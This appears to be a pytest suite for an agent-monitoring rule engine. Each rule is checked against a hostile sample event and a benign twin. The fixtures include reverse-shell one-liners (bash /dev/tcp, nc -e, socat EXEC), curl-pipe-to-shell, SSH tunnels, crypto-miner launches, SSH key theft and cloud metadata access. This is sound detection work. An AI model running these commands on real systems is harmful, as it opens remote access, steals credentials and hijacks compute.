"""The default pack: every rule fires on its attack and stays quiet on a benign twin; ordinary
development work (compile, git, pip from an internal mirror, pytest) raises nothing."""
from __future__ import annotations

import itertools
from pathlib import Path

import pytest

from agenttrace.clock import FakeClock
from agenttrace.match.engine import Engine, replay
from agenttrace.session.event import Event
from agenttrace.match.rules import default_rule_paths, load_rules

FIX = Path(__file__).parent / "fixtures"
AGENT = {"id": "ep-7", "cgroup": "/agents/ep-7", "cgroup_id": 77}
_pids = itertools.count(5000)


def proc(exe, *args, comm=None):
    return {"pid": next(_pids), "ppid": 4000, "uid": 1000, "comm": (comm or exe.rsplit("/", 1)[-1])[:15],
            "exe": exe, "args": list(args), "ancestry": [{"pid": 4000, "comm": "bash", "exe": "/usr/bin/bash"}]}


def exec_(exe, *args, comm=None):
    return {"kind": "exec", "proc": proc(exe, *args, comm=comm)}


def truncated(exe, *args):
    r = exec_(exe, *args)
    r["proc"]["args_truncated"] = True
    return r


def listen(addr, port):
    return {"kind": "listen", "proc": proc("/usr/bin/python3.11", "python3"),
            "net": {"proto": "tcp", "family": "ipv6" if ":" in addr else "ipv4",
                    "local": {"addr": addr, "port": port}, "what": "listen"}}


def connect(addr, port, scope, name=None, proto="tcp", verdict="allowed", exe="/usr/bin/python3.11"):
    return {"kind": "connect", "proc": proc(exe, exe), "net": {
        "proto": proto, "family": "ipv6" if ":" in addr else "ipv4", "src": {"addr": "10.42.0.17", "port": 40001},
        "dst": {"addr": addr, "port": port, "scope": scope, "name": name}, "verdict": verdict,
        "result": "blocked" if verdict == "blocked" else "established"}}


def dns(q):
    return {"kind": "dns", "proc": proc("/usr/bin/python3.11", "python3"),
            "dns": {"query": q, "qtype": "A", "server": {"addr": "10.0.0.2", "port": 53}}}


def flow(addr, port, scope, protocol, **detail):
    r = connect(addr, port, scope)
    r["kind"] = "flow"
    r["flow"] = {"protocol": protocol, "detail": detail}
    return r


CPYTHON = {"sha256": "0" * 64, "runtime": "cpython"}
XMRIG = {"sha256": "1" * 64, "name": "xmrig", "category": "miner", "names": ["xmrig"], "by": "strings"}


def gpu(comm, util, identity=None, contacts=None):
    r = {"kind": "gpu", "proc": proc(f"/opt/bin/{comm}", comm, comm=comm),
         "gpu": {"index": 0, "uuid": "GPU-x", "name": "H100", "used_memory_mib": 4000, "sm_util_pct": util}}
    if identity is not None:
        r["proc"]["identity"] = identity
    if contacts is not None:
        r["proc"]["egress"] = {"contacts": [dict({"pid": 1, "comm": comm, "scope": "external", "name": "",
                                                  "protocol": "", "host": "", "age_s": 30.0, "held": True}, **c)
                                            for c in contacts],
                               "external": len(contacts), "held": sum(1 for c in contacts if c.get("held", True))}
    return r


def gpu_connect(addr, scope, util=95, name=None):
    r = connect(addr, 443, scope, name=name)
    r["proc"]["gpu"] = {"index": 0, "uuid": "GPU-x", "name": "H100", "used_memory_mib": 4000, "sm_util_pct": util}
    return r


def fresh_exec(path, downloader=True, builder=False, age=5.0, dst_name=""):
    r = exec_(path, path.rsplit("/", 1)[-1])
    fx = {"path": path, "changed_age_s": age, "modified_age_s": age + 1}
    if downloader:
        fx["downloader"] = {"pid": 4100, "comm": "curl", "exe": "/usr/bin/curl", "exec_id": None, "identity": "",
                            "runtime": "", "dst": {"addr": "198.51.100.7", "port": 80, "scope": "external",
                                                   "name": dst_name}, "protocol": "http", "host": ""}
    if builder:
        fx["builder"] = {"pid": 4200, "comm": "ld", "exe": "/usr/bin/ld", "exec_id": None, "identity": "gnu-ld",
                         "runtime": "", "tool": "build"}
    r["proc"]["fresh_exe"] = fx
    return r


def file_(path, op="read", exe="/usr/bin/python3.11", cls=None):
    from agenttrace.decode.files import classify
    return {"kind": "file", "proc": proc(exe, exe), "file": {
        "path": path, "raw_path": path, "op": op, "syscall": "openat",
        "flags": ["O_WRONLY", "O_APPEND"] if op == "write" else ["O_RDONLY"],
        "class": cls or classify(path) or "unknown", "verdict": "allowed"}}


# rule id → (events that must fire it, benign twins that must not)
CASES = {
    "tunnel-ssh-forwarding": (
        [exec_("/usr/bin/ssh", "ssh", "-N", "-R", "8022:localhost:22", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-fNL8080:10.0.0.5:80", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-D", "1080", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-w", "0:0", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-o", "RemoteForward=2222 localhost:22", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-oLocalForward=8080 localhost:80", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-o", "DynamicForward 1080", "u@203.0.113.5"),
         exec_("/usr/bin/ssh", "ssh", "-o", "ProxyCommand=nc %h %p", "u@203.0.113.5"),
         exec_("/usr/bin/autossh", "autossh", "-M", "0", "-NR", "9000:localhost:22", "u@203.0.113.5"),
         exec_("/usr/bin/dbclient", "dbclient", "-R", "9000:localhost:22", "u@203.0.113.5")],
        [exec_("/usr/bin/ssh", "ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@git.corp.internal", "git-upload-pack 'x.git'"),
         exec_("/usr/bin/ssh", "ssh", "-p", "2222", "-l", "dev", "-i", "/home/dev/.ssh/id_ed25519", "10.0.0.5"),
         exec_("/usr/bin/git", "git", "log", "-L", "10,20:src/main.c")]),
    "tunnel-tool-exec": (
        [exec_("/tmp/chisel", "./chisel", "client", "203.0.113.5:8080", "R:socks"),
         exec_("/usr/local/bin/ngrok", "ngrok", "tcp", "22"),
         exec_("/usr/bin/cloudflared", "cloudflared", "tunnel", "run"),
         exec_("/usr/local/bin/frpc", "frpc", "-c", "frpc.toml"),
         exec_("/usr/local/bin/bore", "bore", "local", "8000", "--to", "bore.pub")],
        [exec_("/usr/bin/curl", "curl", "https://github.com/jpillora/chisel"),
         exec_("/usr/bin/python3.11", "python3", "chisel_notes.py")]),
    "tunnel-socat-relay": (
        [exec_("/usr/bin/socat", "socat", "TCP-LISTEN:8080,fork", "TCP:203.0.113.5:22"),
         exec_("/usr/bin/socat", "socat", "OPENSSL:203.0.113.5:443", "EXEC:/bin/bash")],
        [exec_("/usr/bin/socat", "socat", "-", "UNIX-CONNECT:/run/app.sock"),
         exec_("/usr/bin/socat", "socat", "-u", "FILE:/tmp/in", "FILE:/tmp/out")]),
    "tunnel-netcat-relay": (
        [exec_("/usr/bin/ncat", "ncat", "-l", "8080", "--sh-exec", "ncat 203.0.113.5 22"),
         exec_("/usr/bin/nc", "nc", "-e", "/bin/sh", "203.0.113.5", "4444"),
         exec_("/usr/bin/nc.traditional", "nc", "-lvpe", "/bin/bash", "-p", "4444")],
        [exec_("/usr/bin/nc", "nc", "-zv", "10.0.0.5", "80"),
         exec_("/usr/bin/nc", "nc", "-l", "-p", "9000")]),
    "tunnel-ssh-external-port": (
        [connect("203.0.113.5", 22, "external", verdict="blocked"),
         connect("2001:db8::5", 22, "external")],
        [connect("10.0.0.5", 22, "internal"), connect("203.0.113.5", 443, "external"),
         connect("127.0.0.1", 22, "loopback"), connect("203.0.113.5", 22, "external", proto="udp")]),
    "tunnel-ssh-external-flow": (
        [flow("203.0.113.5", 443, "external", "ssh", banner="SSH-2.0-OpenSSH_9.2")],
        [flow("10.0.0.5", 2222, "internal", "ssh", banner="SSH-2.0-OpenSSH_9.2"),
         flow("203.0.113.5", 443, "external", "tls", sni="pypi.org")]),
    "mining-binary-exec": (
        [exec_("/tmp/.x/xmrig", "./xmrig"), exec_("/opt/t-rex", "t-rex", "-a", "kawpow"),
         exec_("/opt/lolMiner", "lolMiner", "--algo", "ETCHASH")],
        [exec_("/usr/bin/python3.11", "python3", "xmrig_config_check.py"),
         exec_("/opt/miner-tools/report", "report")]),
    "mining-stratum-args": (
        [exec_("/tmp/kworker", "kworker", "-o", "stratum+tcp://pool.example:3333"),
         exec_("/tmp/x", "x", "--url=STRATUM+SSL://pool.example:443"),
         exec_("/tmp/x", "x", "-o", "stratum2+tcp:pool.example:3333"),
         exec_("/bin/sh", "sh", "-c", "./w -o stratum+tls pool.example 443"),
         exec_("/tmp/x", "x", "--donate-level", "1")],
        [exec_("/usr/bin/python3.11", "python3", "-m", "pytest", "tests/test_stratum_parser.py"),
         exec_("/usr/bin/grep", "grep", "-r", "stratum", "docs/")]),
    "mining-pool-port": (
        [connect("198.51.100.9", 3333, "external"), connect("198.51.100.9", 14444, "external"),
         connect("198.51.100.9", 45700, "external", verdict="blocked")],
        [connect("198.51.100.9", 443, "external"), connect("198.51.100.9", 8080, "external"),
         connect("10.0.0.5", 3333, "internal"), connect("127.0.0.1", 4444, "loopback")]),
    "mining-pool-domain": (
        [connect("198.51.100.9", 443, "external", name="gulf.moneroocean.stream"),
         connect("198.51.100.9", 3333, "external", name="XMR-EU1.NANOPOOL.ORG.")],
        [connect("198.51.100.9", 443, "external", name="pypi.org"),
         connect("198.51.100.9", 443, "external", name="notnanopool.org")]),
    "mining-pool-dns": (
        [dns("pool.supportxmr.com"), dns("supportxmr.com"), dns("eu.2miners.com")],
        [dns("pypi.org"), dns("huggingface.co")]),
    "mining-stratum-flow": (
        [flow("198.51.100.9", 443, "external", "stratum", banner='{"id":1,"method":"login"'),
         flow("10.0.0.8", 3333, "internal", "stratum")],
        [flow("127.0.0.1", 3333, "loopback", "stratum"), flow("198.51.100.9", 443, "external", "tls", sni="x")]),
    "gpu-busy-non-ml-process": (
        # the name is not trusted: a miner called python3, or a process never identified
        [gpu("kworker", 99), gpu("miner", 50), gpu("python3", 99, XMRIG), gpu("python3", 99)],
        [gpu("python3", 99, CPYTHON), gpu("python3.11", 99, CPYTHON), gpu("torchrun", 90, dict(CPYTHON, via="interpreter")),
         gpu("kworker", 10)]),
    "gpu-busy-pool-traffic": (
        [gpu("python3", 99, CPYTHON, [{"addr": "203.0.113.20", "port": 443, "protocol": "stratum"}]),
         gpu("python3", 90, XMRIG, [{"addr": "203.0.113.20", "port": 3333}]),
         gpu("trainer", 90, CPYTHON, [{"addr": "198.51.100.9", "port": 443, "protocol": "tls", "host": "xmr.nanopool.org"}])],
        [gpu("python3", 99, CPYTHON, []), gpu("python3", 99, CPYTHON, [{"addr": "203.0.113.20", "port": 3333, "held": False}]),
         gpu("python3", 20, CPYTHON, [{"addr": "203.0.113.20", "port": 443, "protocol": "stratum"}]),
         gpu("python3", 99, CPYTHON, [{"addr": "198.51.100.9", "port": 443, "protocol": "tls", "host": "huggingface.co"}])]),
    "gpu-busy-external-connection": (
        [gpu("python3", 99, CPYTHON, [{"addr": "198.51.100.9", "port": 443}])],
        [gpu("python3", 99, CPYTHON, []), gpu("python3", 99, CPYTHON, [{"addr": "198.51.100.9", "port": 443, "held": False}]),
         gpu("python3", 10, CPYTHON, [{"addr": "198.51.100.9", "port": 443}])]),
    "gpu-holder-external-connect": (
        [gpu_connect("198.51.100.9", "external")],
        [gpu_connect("10.0.0.5", "internal"), gpu_connect("198.51.100.9", "external", util=5),
         connect("198.51.100.9", 443, "external")]),
    "download-then-exec": (
        [fresh_exec("/tmp/x/xmrig"), fresh_exec("/home/a/.cache/kworker", age=590.0)],
        [fresh_exec("/tmp/x/a.out", builder=True), fresh_exec("/tmp/x/a.out", downloader=False),
         fresh_exec("/tmp/x/old", age=900.0), exec_("/usr/bin/curl", "curl")]),
    "scan-tool-exec": (
        [exec_("/usr/bin/nmap", "nmap", "-sT", "10.0.0.0/24"), exec_("/usr/sbin/masscan", "masscan", "-p1-65535", "10.0.0.0/8")],
        [exec_("/usr/bin/ping", "ping", "-c1", "10.0.0.5"), exec_("/usr/bin/python3.11", "python3", "nmap_parser.py")]),
    "egress-metadata-address": (
        [connect("169.254.169.254", 80, "metadata", verdict="blocked"), connect("fd00:ec2::254", 80, "metadata")],
        [connect("169.254.10.1", 80, "internal"), connect("10.0.0.5", 80, "internal")]),
    "egress-metadata-dns": (
        [dns("metadata.google.internal"), dns("metadata.google.internal.")],
        [dns("metadata-service.corp.internal"), dns("pypi.corp.internal")]),
    "egress-unknown-external": (
        [connect("198.51.100.80", 443, "external", name="example.org")],
        [connect("10.30.0.9", 3141, "internal", name="pypi.corp.internal"),
         connect("198.51.100.80", 443, "external", verdict="blocked"),
         connect("127.0.0.1", 8080, "loopback")]),
    "exec-reverse-shell": (
        [exec_("/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")],
        [exec_("/usr/bin/bash", "bash", "-c", "echo hi > /dev/null"), exec_("/usr/bin/python3.11", "python3", "/dev/tcp_notes.py")]),
    "exec-from-dev-shm": (
        [exec_("/dev/shm/.x/run", "run")],
        [exec_("/tmp/work/build/app", "./build/app"), exec_("/usr/bin/ls", "ls", "/dev/shm")]),
    "ssh-authorized-keys-write": (
        [file_("/home/dev/.ssh/authorized_keys", "write"), file_("/root/.ssh/authorized_keys2", "write", exe="/usr/bin/tee"),
         dict(file_("/home/dev/.ssh/authorized_keys", "write", exe="/usr/bin/mv"), file=dict(
             file_("/home/dev/.ssh/authorized_keys", "write")["file"], syscall="renameat2", flags=[]))],
        [file_("/home/dev/.ssh/authorized_keys", "read", exe="/usr/sbin/sshd"),
         file_("/home/dev/.ssh/known_hosts", "write", exe="/usr/bin/ssh"),
         file_("/home/dev/project/authorized_keys.md", "write")]),
    "ssh-private-key-read": (
        [file_("/home/dev/.ssh/id_ed25519"), file_("/home/dev/.ssh/deploy_key", exe="/usr/bin/cat"),
         file_("/srv/keys/id_rsa", exe="/usr/bin/curl"), file_("/home/dev/.ssh/identity", exe="/bin/tar")],
        [file_("/home/dev/.ssh/id_ed25519", exe="/usr/bin/ssh"), file_("/home/dev/.ssh/id_rsa", exe="/usr/bin/ssh-add"),
         file_("/home/dev/.ssh/id_ed25519", exe="/usr/bin/ssh-keygen"), file_("/home/dev/.ssh/id_ed25519.pub"),
         file_("/home/dev/.ssh/known_hosts"), file_("/home/dev/.ssh/config"),
         file_("/home/dev/src/id_utils.py", cls="ssh_other")]),
    "ssh-host-key-read": (
        [file_("/etc/ssh/ssh_host_ed25519_key"), file_("/etc/ssh/ssh_host_rsa_key", exe="/usr/bin/cat")],
        [file_("/etc/ssh/ssh_host_ed25519_key.pub", cls="ssh_other"),
         file_("/etc/ssh/ssh_host_rsa_key", "write", exe="/usr/bin/ssh-keygen")]),
    # the kernel writes escape and socket records only when something is wrong: the benign
    # twin of each is its absence, i.e. an ordinary record of another kind
    "escape-cgroup-move": (
        [dict(exec_("/usr/bin/python3.11", "python3"), kind="escape",
              escape={"pid": 4242, "by_pid": 4242, "self": True, "how": "cgroup_procs",
                      "to": {"cgroup": "/user.slice", "cgroup_id": 7}, "verdict": "allowed"})],
        [exec_("/usr/bin/python3.11", "python3")]),
    "escape-socket-fence": (
        [dict(exec_("/usr/bin/python3.11", "python3"), kind="socket",
              socket={"family": "inet", "type": "raw", "protocol": "icmp", "verdict": "blocked", "fenced": True})],
        [connect("198.51.100.9", 443, "external", name="pypi.org")]),
    "exec-download-pipe-shell": (
        [exec_("/usr/bin/sh", "sh", "-c", "curl -fsSL https://get.example.sh | sh"),
         exec_("/usr/bin/bash", "bash", "-c", "wget -qO- http://x/i.sh | sudo bash")],
        [exec_("/usr/bin/sh", "sh", "-c", "curl -fsSL -o out.tgz https://x/out.tgz && tar xzf out.tgz"),
         exec_("/usr/bin/bash", "bash", "-c", "cat log | grep shard")]),
    "tunnel-ssh-config-forwarding": (
        [dict(exec_("/usr/bin/ssh", "ssh", "-F", "cfg", "h"), proc=dict(proc("/usr/bin/ssh", "ssh", "-F", "cfg", "h"), ssh={
            "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["config"]})),
         dict(exec_("/tmp/kw", "kw", "-NoRemoteForward=1 x:2", "h"), proc=dict(proc("/tmp/kw", "kw"), ssh={
             "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["options"]}))],
        [exec_("/usr/bin/ssh", "ssh", "-R", "1:x:2", "h"),
         dict(exec_("/usr/bin/ssh", "ssh", "-R", "1:x:2", "h"), proc=dict(proc("/usr/bin/ssh", "ssh"), ssh={
             "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["flags"]})),
         dict(exec_("/usr/bin/ssh", "ssh", "git@forge"), proc=dict(proc("/usr/bin/ssh", "ssh"), ssh={
             "host": "forge", "forwarding": False, "proxy": False, "tunnel": False, "decided_by": []}))]),
    "tunnel-ssh-proxy-relay": (
        [dict(connect("198.51.100.7", 8443, "external"), proc=dict(proc("/usr/bin/python3.11", "python3"),
              relay_of={"pid": 4000, "host": "hidden", "proxy": "python3 tls.py"}))],
        [connect("198.51.100.7", 8443, "external"),
         dict(connect("127.0.0.1", 2222, "loopback"), proc=dict(proc("/usr/bin/nc", "nc"), relay_of={"pid": 4000}))]),
    "mining-pool-tls-sni": (
        [flow("198.51.100.9", 443, "external", "tls", sni="pool.supportxmr.com"),
         flow("198.51.100.9", 443, "external", "tls", sni="Gulf.MoneroOcean.Stream")],
        [flow("198.51.100.9", 443, "external", "tls", sni="pypi.org"),
         flow("198.51.100.9", 443, "external", "tls"),
         flow("198.51.100.9", 80, "external", "http", host="xmr-eu1.nanopool.org", method="GET")]),
    "mining-pool-http-host": (
        [flow("198.51.100.9", 80, "external", "http", host="xmr-eu1.nanopool.org", method="GET")],
        [flow("198.51.100.9", 80, "external", "http", host="pypi.org", method="GET"),
         flow("198.51.100.9", 443, "external", "tls", sni="pool.supportxmr.com")]),
    "tunnel-service-domain": (
        [connect("198.51.100.9", 443, "external", name="abc123.ngrok-free.app"),
         flow("198.51.100.9", 80, "external", "http", host="quiet-fox.trycloudflare.com", method="GET")],
        [connect("198.51.100.9", 443, "external", name="ngrok.com.example.org"),
         flow("198.51.100.9", 443, "external", "tls", sni="github.com"),
         # a TLS server name is tunnel-service-tls-sni's (dropped in the kernel)
         flow("198.51.100.9", 443, "external", "tls", sni="quiet-fox.trycloudflare.com")]),
    "tunnel-service-tls-sni": (
        [flow("198.51.100.9", 443, "external", "tls", sni="quiet-fox.trycloudflare.com"),
         flow("198.51.100.9", 443, "external", "tls", sni="bore.pub")],
        [flow("198.51.100.9", 443, "external", "tls", sni="github.com"),
         flow("198.51.100.9", 443, "external", "tls", sni="bore.pub.example.org")]),
    "tunnel-service-dns": (
        [dns("bore.pub"), dns("x1.devtunnels.ms")],
        [dns("pypi.org"), dns("devtunnels.ms.corp.internal")]),
    "tunnel-code-tunnel": (
        [exec_("/usr/bin/code", "code", "tunnel", "--accept-server-license-terms")],
        [exec_("/usr/bin/code", "code", "src/tunnel.py"), exec_("/usr/bin/code", "code", "--version")]),
    "tunnel-http-connect-ssh": (
        [flow("198.51.100.7", 3128, "external", "http", method="CONNECT", tunnel=True,
              connect_host="203.0.113.10", connect_port=22),
         flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="x", connect_port=22)],
        [flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="pypi.org",
              connect_port=443),
         flow("198.51.100.7", 80, "external", "http", method="GET", path="/")]),
    "tunnel-http-connect-external": (
        [flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="x", connect_port=4444)],
        [flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="pypi.org",
              connect_port=443),
         flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="x", connect_port=22)]),
    "tunnel-websocket-external": (
        [flow("198.51.100.7", 80, "external", "http", method="GET", upgrade="WebSocket")],
        [flow("10.0.0.7", 80, "internal", "http", method="GET", upgrade="websocket"),
         flow("198.51.100.7", 80, "external", "http", method="GET", upgrade="h2c")]),
    "tunnel-listen-external": (
        [listen("0.0.0.0", 4444), listen("::", 4444), listen("10.42.0.17", 8080)],
        [listen("127.0.0.1", 8000), listen("::1", 8000)]),
    "exec-args-truncated": (
        [truncated("/usr/bin/ssh", "ssh", "-o" + "x" * 4080), truncated("/bin/sh", "sh", "-c", ":" + " " * 4090)],
        [exec_("/bin/sh", "sh", "-c", ":" + " " * 100), truncated("/usr/bin/ld", "ld", *["a.o"] * 1200)]),
}


@pytest.fixture(scope="module")
def ruleset():
    return load_rules(default_rule_paths())


def fired(ruleset, rec) -> set:
    rec = dict(rec, ts="2025-11-27T08:00:00.000000000Z", node="n1", agent=AGENT)
    eng = Engine(ruleset, clock=FakeClock())
    return {a.record["rule"]["id"] for a in eng.process(Event.from_record(rec))}


def test_every_default_rule_has_a_case(ruleset):
    window_rules = {r.id for r in ruleset.rules if r.window is not None}
    assert set(CASES) | window_rules == {r.id for r in ruleset.rules}


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_fires_and_benign_twin_does_not(ruleset, rule_id):
    bad, good = CASES[rule_id]
    for rec in bad:
        assert rule_id in fired(ruleset, rec), rec
    for rec in good:
        assert rule_id not in fired(ruleset, rec), rec


def test_benign_development_events_raise_nothing():
    # compile (make/gcc/cc1/as/ld), git over https and ssh to the internal forge, pip with
    # 60 connects to an internal mirror, pytest with 45 loopback ports, a GPU training step
    assert replay(default_rule_paths(), str(FIX / "events_benign.jsonl")) == []


def test_recorded_development_work_raises_nothing():
    # recorded with the real probes: `agenttrace run --no-rules -- bash devwork.sh` where the
    # script runs make/gcc and the binary, git init/commit/log/status/clone, pip download
    # from a loopback HTTP index, and pytest (506 records: exec, fork, exit, connect)
    path = FIX / "events_recorded_devwork.jsonl"
    kinds = {__import__("json").loads(line)["kind"] for line in path.read_text().splitlines()}
    assert {"exec", "exit", "connect"} <= kinds
    assert replay(default_rule_paths(), str(path)) == []


def test_attack_events_raise_the_expected_alerts():
    alerts = replay(default_rule_paths(), str(FIX / "events_attack.jsonl"))
    ids = [a["rule"]["id"] for a in alerts]
    for rid in ("tunnel-ssh-forwarding", "tunnel-ssh-external-port", "tunnel-tool-exec",
                "mining-binary-exec", "mining-stratum-args", "mining-pool-port", "mining-pool-domain",
                "mining-pool-dns", "mining-stratum-flow", "gpu-busy-non-ml-process",
                "egress-metadata-address", "scan-internal-ports", "scan-tool-exec", "egress-unknown-external"):
        assert rid in ids, rid
    # the kernel's recorded verdicts are what the outcomes say
    by = {(a["rule"]["id"], a["trigger"]): a for a in alerts}
    assert by[("egress-metadata-address", "connect")]["rule"]["outcome"] == "blocked"
    assert by[("mining-binary-exec", "exec")]["rule"]["outcome"] == "killed"
    assert by[("tunnel-tool-exec", "exec")]["rule"]["outcome"] == "reported"   # replay acts on nothing
    scans = [a for a in alerts if a["rule"]["id"] == "scan-internal-ports"]
    assert [(a["window"]["count"], a["rule"].get("repeats")) for a in scans] == [(30, None), (40, 10)]
    for a in alerts:
        assert a["kind"] == "alert" and a["agent"]["id"] == "ep-0042"
        assert set(a["rule"]) >= {"id", "category", "severity", "action", "outcome", "tags", "message"}


def test_alerts_and_fixture_events_validate_against_the_event_schema():
    import json

    import jsonschema

    from agenttrace.paths import schema_dir
    schema = json.loads((schema_dir() / "event.schema.json").read_text())
    v = jsonschema.Draft202012Validator(schema)
    alerts = replay(default_rule_paths(), str(FIX / "events_attack.jsonl"))
    records = alerts + [json.loads(line) for name in ("benign", "attack", "recorded_devwork")
                        for line in (FIX / f"events_{name}.jsonl").read_text().splitlines()]
    for r in records:
        if r["kind"] == "lifecycle":
            continue        # the runtime's records, not this module's; checked by its own tests
        errs = sorted(v.iter_errors(r), key=lambda e: list(e.path))
        assert not errs, (r.get("kind"), r.get("rule", {}).get("id"), [f"{list(e.path)}: {e.message}" for e in errs[:3]])
